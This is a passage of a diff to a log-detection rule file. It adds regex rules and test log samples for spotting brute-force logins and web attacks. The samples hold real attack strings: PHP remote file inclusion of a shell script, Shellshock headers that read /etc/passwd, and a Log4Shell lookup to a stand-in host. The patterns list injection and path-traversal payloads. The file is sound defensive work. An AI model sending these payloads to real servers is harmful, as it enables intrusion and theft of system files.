@@ -607,7 +607,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} [^ ]{0,2048}(?: HTTP/\\d\\.\\d)? to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
         "category": [
           "Recon.Network"
         ],
@@ -673,6 +673,19 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:error] [pid 77] (20024)The given path is misformatted or contained invalid characters: [client 192.0.2.109:3333] AH00127: Cannot map GET /cgi-bin/x:y HTTP/1.1 to file",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.109",
+                  "Port": [
+                    3333
+                  ]
                 }
               ]
             }
@@ -1331,6 +1344,108 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         ]
       },
       {
+        "id": "apache.php-file-inclusion",
+        "programs": [
+          "apache"
+        ],
+        "requires": "PHP ",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH01071: Got error ')?(?:PHP message: )?PHP (?:Warning|Fatal error): {1,2}(?<fn>include|include_once|require|require_once)(?:\\(\\)(?: \\[[^\\]]{0,200}\\])?: (?:(?<scheme>https?|ftps?|php|data|expect):// wrapper is disabled in the server configuration|(?<urloff>URL file-access is disabled) in the server configuration|Failed opening (?:required )?'(?<url>(?:(?:https?|ftps?|php|data|expect):|(?=[^']{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^']{0,2048})')|\\((?<arg>(?:(?:https?|ftps?|php|data|expect):|(?=[^)]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^)]{0,2048})\\)(?: \\[[^\\]]{0,200}\\])?: [Ff]ailed to open stream)",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "PHP file inclusion attempt from {ip4}{ip6p}{ip6}: {fn}() of {url}{arg}{scheme}{urloff}",
+        "source": {
+          "address": "{ip4}{ip6p}{ip6}",
+          "port": "{port}{port6}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.100:3333] PHP Warning:  include(): Failed opening 'http://198.51.100.9/shell.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.100",
+                  "Port": [
+                    3333
+                  ]
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium",
+              "Description": "PHP file inclusion attempt from 192.0.2.100: include() of http://198.51.100.9/shell.txt?"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.101:3333] PHP Warning:  include(): http:// wrapper is disabled in the server configuration by allow_url_include=0 in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.101"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php:warn] [pid 77] [client 192.0.2.102:3333] PHP Warning:  include(http://198.51.100.9/shell.txt?): Failed to open stream: no suitable wrapper could be found in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.102"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.103] PHP Warning:  include() [<a href='function.include'>function.include</a>]: URL file-access is disabled in the server configuration in /var/www/index.php on line 3, referer: http://6.6.6.6/",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.103"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.104] PHP Warning:  include(../../../../etc/passwd) [function.include]: failed to open stream: No such file or directory in /var/www/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.104"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [proxy_fcgi:error] [pid 77:tid 2] [client 192.0.2.105:3333] AH01071: Got error 'PHP message: PHP Fatal error:  require(): Failed opening required 'ftp://198.51.100.9/x.txt' (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.105"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.106:3333] PHP Warning:  include(): Failed opening 'config/local.php' for inclusion (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3",
+            "expect": null
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.107:3333] PHP Warning:  include(../lib/db.php): failed to open stream: No such file or directory in /var/www/html/index.php on line 3",
+            "expect": null
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.108] PHP Warning:  fopen(http://198.51.100.9/feed.xml): failed to open stream: HTTP request failed! in /var/www/index.php on line 3",
+            "expect": null
+          }
+        ]
+      },
+      {
         "id": "apache.mod-evasive-blacklisted",
         "programs": [
           "mod_evasive",
@@ -1670,6 +1785,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^\\[(?<time>[A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?|\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?)\\] "
+        },
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d) (?=(?:NOTICE|WARNING|ERROR|SECURITY|VERBOSE|DEBUG|DTMF|EVENT)\\[\\d{1,10}\\] [A-Za-z0-9_./-]{1,64}: )",
+          "time": "MMM D hh:mm:ss"
         }
       ]
     }
@@ -2079,6 +2198,172 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?=\\{\"level\":\"[a-z]{3,7}\",\"ts\":(?:(?<time>\\d{9,11}\\.\\d{3,9})|\\d{9,11}(?:\\.\\d{1,2})?),\"logger\":\"http\\.log\\.access)"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-centreon.yaml",
+    "rules": [
+      {
+        "id": "centreon.auth-failed",
+        "programs": [
+          "centreon"
+        ],
+        "requires": "] Authentication failed for '",
+        "pattern": "^\\[[A-Za-z0-9_ -]{1,32}\\] \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] Authentication failed for '(?<user>[^']{0,256})'",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Centreon login as {user} failed from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "centreon"
+        },
+        "samples": [
+          {
+            "line": "2024-01-15 12:00:00|-1|0|0|[LOCAL] [192.0.2.91] Authentication failed for 'admin'",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.91"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "centreon"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2024-01-15T12:00:00+01:00] ERROR : 0|0|[local] [2001:db8::92] Authentication failed for 'bob' : invalid credentials | {\"context\":{\"default\":{\"request_infos\":{\"url\":\"/centreon/authentication/providers/configurations/local\"}}}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::92"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-15 12:00:00|-1|0|0|[LOCAL] [192.0.2.93] Authentication failed for 'x] [10.1.1.1] Authentication failed for '",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.93"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-15 12:00:00|1|0|0|[LOCAL] [192.0.2.94] Authentication succeeded for 'admin'",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "centreon",
+      "aliases": [
+        "centreon-web"
+      ],
+      "description": "Centreon Web login.log",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d)\\|-?\\d{1,10}\\|-?\\d{1,10}\\|-?\\d{1,10}\\|",
+          "time": "YYYY-MM-DD hh:mm:ss"
+        },
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?:Z|[+-]\\d\\d:\\d\\d))\\] [A-Z]{4,9} : -?\\d{1,10}\\|-?\\d{1,10}\\|"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-directadmin.yaml",
+    "rules": [
+      {
+        "id": "directadmin.login-failed",
+        "programs": [
+          "directadmin"
+        ],
+        "requires": " failed login attempt",
+        "pattern": "^'(?<ip>[0-9A-Fa-f:.]{2,45})' (?<count>\\d{1,6}) failed login attempts?\\.?(?: [Aa]ccount '(?<user>[^']{0,256})')?",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "DirectAdmin login as {user} failed from {ip} ({count} failed attempts)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "directadmin"
+        },
+        "samples": [
+          {
+            "line": "2024:01:15-12:00:00: '192.0.2.101' 1 failed login attempts. Account 'admin'",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.101"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "directadmin"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024:01:15-12:00:05: '2001:db8::102' 4 failed login attempts. Account 'x' 10.1.1.1'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::102"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024:01:15-12:00:09: '192.0.2.103' successful login to 'admin'",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "directadmin",
+      "aliases": [
+        "direct-admin"
+      ],
+      "description": "DirectAdmin login.log",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}:\\d\\d:\\d\\d-\\d\\d:\\d\\d:\\d\\d): (?=')",
+          "time": "YYYY:MM:DD-hh:mm:ss"
         }
       ]
     }
@@ -2498,6 +2783,139 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-emby.yaml",
+    "rules": [
+      {
+        "id": "emby.auth-error",
+        "programs": [
+          "emby"
+        ],
+        "requires": "AUTH-ERROR: ",
+        "pattern": "^HttpServer: AUTH-ERROR: (?<ip>[0-9A-Fa-f:.]{2,45}) - (?<reason>[^\\n]{1,200})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Emby login refused from {ip} ({reason})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "emby"
+        },
+        "samples": [
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.793 Warn HttpServer: AUTH-ERROR: 192.0.2.71 - Invalid user or password entered.",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.71"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "emby"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2023-01-10 12:00:00.123 Warn HttpServer: AUTH-ERROR: ::ffff:192.0.2.72 - Invalid user or password entered.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.72"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.793 Info UserManager: Authentication request for bob has been denied.",
+            "expect": null
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.793 Info UserManager: Authentication request for bob has succeeded.",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "emby.login-refused-response",
+        "programs": [
+          "emby"
+        ],
+        "requires": "HTTP Response 401 to ",
+        "pattern": "^HttpServer: HTTP Response 401 to (?<ip>[0-9A-Fa-f:.]{2,45})\\. Time: \\d{1,9}ms(?: \\(slow\\))?\\. \\S{0,2048}/[Uu]sers/[Aa]uthenticate[Bb]y[Nn]ame(?![A-Za-z0-9_])",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "Emby answered 401 to a login from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "emby"
+        },
+        "samples": [
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.794 Info HttpServer: HTTP Response 401 to 192.0.2.73. Time: 162ms. http://192.0.2.1:8096/emby/Users/authenticatebyname",
+            "expect": {
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.73"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.794 Info HttpServer: HTTP Response 401 to 192.0.2.74. Time: 1200ms (slow). http://media.example.org/emby/Users/AuthenticateByName?x=1 ",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.74"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.794 Info HttpServer: HTTP Response 401 to 192.0.2.75. Time: 3ms. http://media.example.org/emby/Sessions/Playing",
+            "expect": null
+          },
+          {
+            "line": "Aug 25 18:55:02 media emby-server[812]: 2019-08-25 18:55:02.794 Info HttpServer: HTTP Response 200 to 192.0.2.76. Time: 162ms. http://192.0.2.1:8096/emby/Users/authenticatebyname",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "emby",
+      "aliases": [
+        "emby-server",
+        "embyserver"
+      ],
+      "description": "Emby Server log file (embyserver.txt)",
+      "syslogTags": [
+        "emby",
+        "emby-server",
+        "embyserver"
+      ],
+      "syslogPrefix": "^(?:\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d\\.\\d{3} )?(?:Debug|Info|Warn|Error|Fatal) (?=[A-Za-z0-9_.]{1,80}: )",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d\\.\\d{3}) (?:Debug|Info|Warn|Error|Fatal) (?=[A-Za-z0-9_.]{1,80}: )",
+          "time": "YYYY-MM-DD hh:mm:ss.f"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-exim.yaml",
     "rules": [
       {
@@ -2663,7 +3081,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "gitlab"
         ],
         "requires": "Failed Login: username=",
-        "pattern": "^(?:Failed Login: username=(?<user>.{0,255}) ip=(?<ip>[0-9A-Fa-f:.]{2,45})$|\\{(?:\"[A-Za-z_]{1,40}\":(?:\"(?:[^\"\\\\]|\\\\.){0,1024}\"|[^,\"{}\\[\\]]{0,64}),){0,12}?\"message\":\"Failed Login: username=(?<juser>(?:[^\"\\\\]|\\\\.){0,255}) ip=(?<jip>[0-9A-Fa-f:.]{2,45})\")",
+        "pattern": "^(?:Failed Login: username=(?<user>.{0,255}) ip=(?<ip>[0-9A-Fa-f:.]{2,45})$|\\{(?:\"[A-Za-z_][A-Za-z0-9_.]{0,39}\":(?:\"(?:[^\"\\\\]|\\\\.){0,1024}\"|[^,\"{}\\[\\]]{0,64}),){0,24}?\"message\":\"Failed Login: username=(?<juser>(?:[^\"\\\\]|\\\\.){0,255}) ip=(?<jip>[0-9A-Fa-f:.]{2,45})\")",
         "category": [
           "Access.Forced"
         ],
@@ -2696,6 +3114,21 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               ],
               "Priority": "Medium",
               "CreateTime": "2023-01-10T12:00:00.123Z"
+            }
+          },
+          {
+            "line": "{\"severity\":\"INFO\",\"time\":\"2023-01-10T12:00:00.123Z\",\"correlation_id\":\"01GPC8X2W6\",\"meta.caller_id\":\"SessionsController#create\",\"meta.remote_ip\":\"192.0.2.174\",\"meta.feature_category\":\"system_access\",\"meta.client_id\":\"ip/192.0.2.174\",\"message\":\"Failed Login: username=root ip=192.0.2.174\"}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.174"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "root"
+                }
+              ]
             }
           },
           {
@@ -3086,7 +3519,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services|\\(\\)(?:%20|\\+)\\{|%28%29(?:%20|\\+)%7[Bb]))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -3300,6 +3733,29 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "198.51.100.55 - - [01/Feb/2024:08:00:00 +0000] \"GET /cgi-bin/test.cgi?%28%29%20%7B%20%3A%3B%20%7D%3B%20/bin/id HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.55"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.133\",\"remote_port\":\"41342\",\"client_ip\":\"192.0.2.133\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/?x=${jndi:ldap://198.51.100.1/a}\",\"headers\":{\"Accept\":[\"*/*\"],\"User-Agent\":[\"Mozilla/5.0\"]}},\"bytes_read\":0,\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.133"
+                }
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2022-03-09T21:30:01.5241024Z"
+            }
+          },
+          {
             "line": "198.51.100.42 - - [01/Feb/2024:08:00:00 +0000] \"GET /search?q=rock+and+roll HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
             "expect": null
           },
@@ -3314,12 +3770,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"(?<referer>[^\"]{0,2048})\" \"(?=[^\"]{0,1024}?(?<payload>\\(\\) \\{|\\$\\{jndi:|\\$\\{\\$\\{))(?<ua>[^\"]{0,1024})\"",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) (?=[^\\n]{0,16384}?(?:\"(?<shellshock>\\(\\) \\{)|(?<payload>\\$\\{jndi:|\\$\\{\\$\\{)))",
         "category": [
           "Access.Other"
         ],
         "priority": "Medium",
-        "description": "HTTP exploit attempt from {ip} in a request header ({payload}): {request}",
+        "description": "HTTP exploit attempt from {ip} in a request header ({shellshock}{payload}): {request}",
         "source": {
           "address": "{ip}"
         },
@@ -3347,6 +3803,42 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "203.0.113.13 - - [25/Sep/2014:01:02:03 +0000] \"GET /cgi-bin/test.cgi HTTP/1.1\" 200 120 \"() { :; }; echo; /bin/cat /etc/passwd\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.13"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.14 - - [25/Sep/2014:01:02:03 +0000] \"GET / HTTP/1.1\" 200 120 \"-\" \"Mozilla/5.0\" \"() { :; }; ping -c 1 198.51.100.9\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.14"
+                }
+              ]
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"2001:db8::134\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/cgi-bin/status\",\"headers\":{\"Cookie\":[\"() { :; }; /bin/id\"],\"User-Agent\":[\"Mozilla/5.0\"]}},\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::134"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.15 - - [25/Sep/2014:01:02:03 +0000] \"GET / HTTP/1.1\" 200 120 \"-\" \"Mozilla/5.0 (X11; f() { x })\"",
+            "expect": null
           }
         ]
       },
@@ -3521,6 +4013,22 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
